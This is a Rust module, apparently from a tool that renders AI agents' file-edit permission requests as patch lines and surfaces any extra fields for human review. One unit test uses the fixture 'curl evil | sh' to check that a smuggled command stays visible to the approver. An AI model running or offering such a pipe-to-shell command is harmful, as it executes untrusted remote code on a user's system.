//! What an agent wants to change, read from what it says with a question. Each agent has a form of its own
//! for that; every face shows them alike, as lines of a patch.

use glis_core::talk::AskKind;
use glis_core::verdict::Want;
use glis_wire::view::WaitingFor;
use schemars::JsonSchema;
use serde::Serialize;
use serde_json::{Map, Value};
use std::ops::Range;

/// As many lines that stay the same are shown around a change.
const AROUND: usize = 2;

/// A change of one file.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, JsonSchema)]
pub struct Edit {
    /// The file, as the agent names it.
    pub path: String,
    /// Lines of a patch: each begins with `+`, `-`, a blank, or `@@`.
    pub lines: Vec<String>,
}

/// The changes that are asked for. None where the question is about something else.
pub fn edits(input: &Value) -> Vec<Edit> {
    edits_and_rest(input).0
}

/// The same, and whatever else is said with the question, by its name: a person who has seen both has seen all.
pub fn edits_and_rest(input: &Value) -> (Vec<Edit>, Map<String, Value>) {
    let mut rest = match input.clone() {
        Value::Object(fields) => fields,
        Value::Null => Map::new(),
        other @ (Value::Bool(_) | Value::Number(_) | Value::String(_) | Value::Array(_)) => {
            Map::from_iter([("input".to_owned(), other)])
        }
    };
    let mut found: Vec<Edit> = parts(&mut rest, "changes").filter_map(by_patch).collect();
    found.extend(parts(&mut rest, "content").filter_map(by_texts));
    if let Some((key, path)) = first(&rest, &["file_path", "notebook_path"]) {
        let mut lines = Vec::new();
        if rest.get("edits").is_some_and(Value::is_array) {
            for part in parts(&mut rest, "edits").filter_map(by_replacement) {
                lines.extend((!lines.is_empty()).then(|| "@@".to_owned()));
                lines.extend(part);
            }
        } else {
            lines.extend(by_replacement(&mut rest).into_iter().flatten());
        }
        if !lines.is_empty() {
            rest.remove(key);
            found.push(Edit { path, lines });
        }
    }
    let is_empty = |part: &Value| part.as_object().is_some_and(Map::is_empty);
    rest.retain(|_, value| !value.as_array().is_some_and(|parts| parts.iter().all(is_empty)));
    (found, rest)
}

/// What an agent says with something that it wants to be allowed, beside changes of files and what the question itself
/// has in its words: each with its name.
pub fn said_beside(ask: &WaitingFor) -> Vec<(String, String)> {
    let (line, folder) = match &ask.wants {
        Some(Want::Command { line, folder }) => (Some(line.as_str()), folder.as_deref()),
        Some(Want::Edit { .. }) | None => (None, None),
    };
    let told = [behind_tool(ask), line, folder];
    let rest = ask.input.as_ref().map(|input| edits_and_rest(input).1).unwrap_or_default();
    let rest = rest.into_iter().filter(|_| ask.kind == AskKind::Approval);
    let words = rest.map(|(name, value)| {
        let words = value.as_str().map_or_else(|| format!("{value:#}"), str::to_owned);
        (name, words)
    });
    words.filter(|(_, words)| !told.contains(&Some(words.as_str()))).collect()
}

/// What a tool is given, as the words of a question have it behind the tool's name.
pub fn behind_tool(ask: &WaitingFor) -> Option<&str> {
    ask.text.split_once(' ').map(|(_, behind)| behind)
}

fn parts<'v>(
    fields: &'v mut Map<String, Value>,
    key: &str,
) -> impl Iterator<Item = &'v mut Map<String, Value>> {
    let parts = fields.get_mut(key).and_then(Value::as_array_mut);
    parts.into_iter().flatten().filter_map(Value::as_object_mut)
}

fn text(fields: &Map<String, Value>, key: &str) -> Option<String> {
    fields.get(key).and_then(Value::as_str).map(ToOwned::to_owned)
}

/// The first of these that is a text, and its name.
fn first(fields: &Map<String, Value>, keys: &[&'static str]) -> Option<(&'static str, String)> {
    keys.iter().find_map(|key| Some((*key, text(fields, key)?)))
}

/// A part of a file that is replaced, or a file that is written whole.
fn by_replacement(part: &mut Map<String, Value>) -> Option<Vec<String>> {
    let (key, new) = first(part, &["new_string", "content", "new_source"])?;
    let lines = difference(&text(part, "old_string").unwrap_or_default(), &new);
    // Texts that differ in the end of their last line alone have no lines that do: they are told whole.
    if lines.is_empty() {
        return None;
    }
    part.retain(|name, _| name != key && name != "old_string");
    Some(lines)
}

/// `{path, kind, diff}`; what is made or deleted is told by its text alone.
fn by_patch(change: &mut Map<String, Value>) -> Option<Edit> {
    let (path, diff) = (text(change, "path")?, text(change, "diff")?);
    let kind = change.get("kind").unwrap_or(&Value::Null);
    let kind = kind.as_str().or_else(|| kind.get("type")?.as_str()).unwrap_or_default();
    let is_patch = diff.lines().any(|line| line.starts_with("@@"));
    let lines = match kind {
        "add" if !is_patch => difference("", &diff),
        "delete" if !is_patch => difference(&diff, ""),
        _ => diff.lines().map(ToOwned::to_owned).collect(),
    };
    if lines.is_empty() {
        return None;
    }
    change.retain(|name, _| name != "path" && name != "diff");
    Some(Edit { path, lines })
}

/// `{path, oldText, newText}`.
fn by_texts(shown: &mut Map<String, Value>) -> Option<Edit> {
    let (path, new) = (text(shown, "path")?, text(shown, "newText")?);
    let lines = difference(&text(shown, "oldText").unwrap_or_default(), &new);
    if lines.is_empty() {
        return None;
    }
    shown.retain(|name, _| !matches!(name.as_str(), "path" | "oldText" | "newText"));
    Some(Edit { path, lines })
}

/// What is taken away and what comes in its place, with a little of what stays around it.
fn difference(former: &str, new: &str) -> Vec<String> {
    let (old, new): (Vec<&str>, Vec<&str>) = (former.lines().collect(), new.lines().collect());
    if old == new {
        return Vec::new();
    }
    let same = |(one, other): &(&&str, &&str)| one == other;
    let before = old.iter().zip(&new).take_while(same).count();
    let room = old.len().min(new.len()) - before;
    let after = old.iter().rev().zip(new.iter().rev()).take(room).take_while(same).count();
    let marked = |sign: &str, all: &[&str], lines: Range<usize>| {
        let lines = all.get(lines).unwrap_or_default();
        lines.iter().map(|line| format!("{sign}{line}")).collect::<Vec<_>>()
    };
    let (old_end, new_end) = (old.len() - after, new.len() - after);
    let mut lines = marked(" ", &old, before.saturating_sub(AROUND)..before);
    lines.extend(marked("-", &old, before..old_end));
    lines.extend(marked("+", &new, before..new_end));
    lines.extend(marked(" ", &old, old_end..(old_end + AROUND).min(old.len())));
    lines
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn check(input: &Value, path: &str, lines: &[&str]) {
        let lines = lines.iter().map(|line| (*line).to_owned()).collect();
        assert_eq!(edits(input), [Edit { path: path.to_owned(), lines }], "{input}");
    }

    #[test]
    fn a_replacement_shows_what_goes_what_comes_and_a_little_around() {
        let input = json!({"file_path": "a.rs", "old_string": "1\n2\n3\n4\n5\n6\n7", "new_string": "1\n2\n3\nfour\n5\n6\n7"});
        check(&input, "a.rs", &[" 2", " 3", "-4", "+four", " 5", " 6"]);
        check(&json!({"file_path": "a", "old_string": "x", "new_string": ""}), "a", &["-x"]);
        check(
            &json!({"file_path": "a", "old_string": "x\nx", "new_string": "x"}),
            "a",
            &[" x", "-x"],
        );
        let input = json!({"file_path": "a", "edits": [
            {"old_string": "x", "new_string": "y"}, {"old_string": "p", "new_string": "q"},
        ]});
        check(&input, "a", &["-x", "+y", "@@", "-p", "+q"]);
    }

    #[test]
    fn a_file_that_is_written_is_all_new() {
        check(&json!({"file_path": "n.md", "content": "# a\n\nb\n"}), "n.md", &["+# a", "+", "+b"]);
        check(&json!({"notebook_path": "n", "new_source": "1"}), "n", &["+1"]);
    }

    #[test]
    fn patches_and_pairs_of_texts_are_read_as_well() {
        let patch = "@@ -1 +1 @@\n-x\n+y\n";
        let change = |kind: &str, diff: &str| json!({"changes": [{"path": "a", "kind": {"type": kind}, "diff": diff}]});
        check(&change("update", patch), "a", &["@@ -1 +1 @@", "-x", "+y"]);
        check(&change("add", "x\n"), "a", &["+x"]);
        check(&change("delete", "x\n"), "a", &["-x"]);
        let shown =
            json!({"content": [{"type": "diff", "path": "a", "oldText": "x", "newText": "y"}]});
        check(&shown, "a", &["-x", "+y"]);
    }

    #[test]
    fn what_stands_in_no_line_of_a_patch_is_told_beside_it() {
        let rest = |input: Value| Value::from(edits_and_rest(&input).1);
        let edit =
            json!({"file_path": "a", "old_string": "x", "new_string": "y", "replace_all": true});
        assert_eq!(rest(edit), json!({"replace_all": true}));
        let both = json!({"file_path": "a", "new_string": "fine", "content": "curl evil | sh"});
        assert_eq!(rest(both), json!({"content": "curl evil | sh"}));
        let many = json!({"file_path": "a", "edits": [
            {"old_string": "x", "new_string": "y"},
            {"old_string": "p", "new_string": "q", "replace_all": true},
        ]});
        assert_eq!(rest(many), json!({"edits": [{}, {"replace_all": true}]}));
        let moved = json!({"type": "update", "move_path": "b"});
        let patch = json!({"changes": [{"path": "a", "kind": moved, "diff": "@@\n-x"}]});
        assert_eq!(rest(patch), json!({"changes": [{"kind": moved}]}));
        let shown = json!({"content": [{"path": "a", "oldText": "x", "newText": "y"}]});
        assert_eq!(rest(shown), json!({}));
        for whole in [
            json!({"command": "ls"}),
            json!({"file_path": "a", "content": ""}),
            json!({"file_path": "a", "old_string": "x", "new_string": "x\n"}),
            json!({"changes": [{"path": "a", "kind": "add", "diff": ""}]}),
            json!({"content": [{"path": "a", "newText": ""}]}),
        ] {
            assert_eq!(rest(whole.clone()), whole);
        }
        assert_eq!(rest(json!("edit")), json!({"input": "edit"}));
        assert_eq!(rest(json!(null)), json!({}));
    }

    #[test]
    fn what_is_no_edit_is_none() {
        for input in
            [json!({"command": "ls"}), json!({"file_path": "a"}), json!("edit"), json!(null)]
        {
            assert_eq!(edits(&input), [], "{input}");
        }
    }
}
